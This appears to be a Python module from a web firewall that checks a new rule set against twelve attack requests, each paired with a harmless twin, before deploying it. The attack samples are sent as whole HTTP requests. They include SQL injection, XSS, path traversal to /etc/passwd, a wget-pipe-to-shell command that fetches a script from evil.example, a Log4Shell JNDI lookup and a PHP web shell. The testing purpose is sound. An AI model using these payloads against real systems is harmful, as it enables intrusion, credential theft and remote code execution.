"""Rules are asked before they serve: attacks that any rule set should know, each with a harmless twin.

A set may miss some, and may deny a twin: whether that is meant only its owner knows, so it is told. Refused, and only
in place of one that runs, is what nobody can mean: a set that denies every harmless request, catches nothing any
more, has no rules at all, or breaks.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass

from extproc.engine.inspector import EngineInspector
from extproc.model.errors import RulesetRefused
from extproc.model.verdict import Decision, Mode, Outcome
from extproc.replay.http1 import parse_request
from extproc.replay.run import run_exchange

SHOWN = 4
"""Names in a sentence; of more only the number is told."""

_HOST = b"Host: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"


def _get(target: bytes, headers: bytes = b"") -> bytes:
    return b"GET %b HTTP/1.1\r\n%b%b\r\n" % (target, _HOST, headers)


def _post(kind: bytes, body: bytes) -> bytes:
    head = b"POST /orders HTTP/1.1\r\n%bContent-Type: %b\r\nContent-Length: %d\r\n\r\n"
    return head % (_HOST, kind, len(body)) + body


_FORM, _JSON = b"application/x-www-form-urlencoded", b"application/json"

PAIRS: dict[str, tuple[bytes, bytes]] = {
    "SQL in a query": (
        _get(b"/items?id=1%27%20OR%20%271%27=%271"),
        _get(b"/items?id=O%27Brien%20or%20Smith"),
    ),
    "UNION SELECT": (
        _get(b"/items?id=-1%20UNION%20ALL%20SELECT%20password,2%20FROM%20users--%20"),
        _get(b"/items?q=student%20union%20elections"),
    ),
    "SQL in a form": (
        _post(_FORM, b"user=admin%27--%20&pw=x%27%20or%201=1%20--%20"),
        _post(_FORM, b"user=ann&note=five+or+six+chairs"),
    ),
    "SQL in JSON": (
        _post(_JSON, b'{"id": "1; DROP TABLE orders; --"}'),
        _post(_JSON, b'{"id": "1", "note": "drop it on the table"}'),
    ),
    "script in a query": (
        _get(b"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
        _get(b"/search?q=film%20script%20of%202024"),
    ),
    "handler in a form": (
        _post(_FORM, b"text=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        _post(_FORM, b"text=an+error+on+page+1"),
    ),
    "script in JSON": (
        _post(_JSON, b'{"name": "<svg/onload=alert(1)>"}'),
        _post(_JSON, b'{"name": "load the picture"}'),
    ),
    "path traversal": (
        _get(b"/download?file=../../../../etc/passwd"),
        _get(b"/download?file=reports/2024/summary.pdf"),
    ),
    "shell command": (
        _get(b"/ping?host=127.0.0.1;cat%20/etc/passwd"),
        _get(b"/ping?host=example.org"),
    ),
    "command in a form": (
        _post(_FORM, b"name=x%24%28wget%20http%3A%2F%2Fevil.example%2Fa.sh%20-O-%7Csh%29"),
        _post(_FORM, b"name=get+the+shell+from+the+beach"),
    ),
    "JNDI lookup": (
        _get(b"/", b"X-Api-Version: ${jndi:ldap://evil.example/a}\r\n"),
        _get(b"/", b"X-Api-Version: 2024-01\r\n"),
    ),
    "PHP code": (
        _post(_FORM, b"code=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B%3F%3E"),
        _post(_FORM, b"code=PHP-2024"),
    ),
}
"""Name → (attack, harmless twin), whole requests."""


@dataclass(frozen=True, slots=True)
class Rehearsed:
    """Names of PAIRS: whose attack would be denied, whose twin would be, and what broke on which."""

    mode: Mode
    rules: int
    caught: frozenset[str]
    denied: frozenset[str]
    faults: tuple[str, ...] = ()


def rehearse(inspector: EngineInspector) -> Rehearsed:
    """All pairs through the rules of `inspector`, apart from its records and its events."""
    decisions: list[Decision] = []
    apart = EngineInspector(inspector.plan, inspector.settings, decisions.append)
    faults: list[str] = []

    def would_deny(name: str, raw: bytes) -> bool:
        decisions.clear()
        try:
            run_exchange(apart, parse_request(raw), None)
        except Exception as fault:  # whatever it is, live requests would meet it too
            faults.append(f"{name}: {type(fault).__name__}: {fault}")
        return bool(decisions) and decisions[-1].would is Outcome.BLOCK

    caught = frozenset(name for name, (attack, _) in PAIRS.items() if would_deny(name, attack))
    denied = frozenset(name for name, (_, twin) in PAIRS.items() if would_deny(name, twin))
    count = sum(len(rules) for rules in inspector.plan.ruleset.phases.values())
    return Rehearsed(inspector.mode, count, caught, denied, tuple(faults))


def compare(now: Rehearsed, before: object) -> str:
    """A sentence on what `now` does and what it does worse than `before` (a Rehearsed, or None at the start).

    Raises RulesetRefused when no owner can want it in place of `before`.
    """
    if isinstance(before, Rehearsed):
        _refuse(now, before)
    if now.mode is Mode.OFF:
        return "rehearsal: mode off, nothing is looked at"
    said = f"rehearsal: {len(now.caught)} of {len(PAIRS)} attacks caught, {len(now.denied)} harmless twins denied"
    if now.denied:
        said += f" ({_names(now.denied)})"
    if now.faults:
        said += f"; broke on {_names(now.faults)}"
    if isinstance(before, Rehearsed) and before.mode is not Mode.OFF:
        lost = before.caught - now.caught
        if lost:
            said += f"; no longer caught: {_names(lost)}"
    return said


def _refuse(now: Rehearsed, before: Rehearsed) -> None:
    remedy = "a restart would load it all the same"
    if now.faults and not before.faults:
        raise RulesetRefused(f"the new set breaks on {_names(now.faults)}; {remedy}")
    if before.rules and not now.rules:
        raise RulesetRefused(f"the new set has no rules at all; {remedy}")
    if Mode.OFF in (now.mode, before.mode):
        return
    if len(now.denied) == len(PAIRS) > len(before.denied):
        raise RulesetRefused(f"the new set denies every harmless request of the rehearsal; {remedy}")
    if not now.caught and 2 * len(before.caught) >= len(PAIRS):
        raise RulesetRefused(
            f"the new set catches none of the rehearsal's attacks, the running one {len(before.caught)} "
            f"of {len(PAIRS)}; {remedy}"
        )


def _names(names: Iterable[str]) -> str:
    found = sorted(names)
    return ", ".join(found[:SHOWN]) + (f" and {len(found) - SHOWN} more" if len(found) > SHOWN else "")
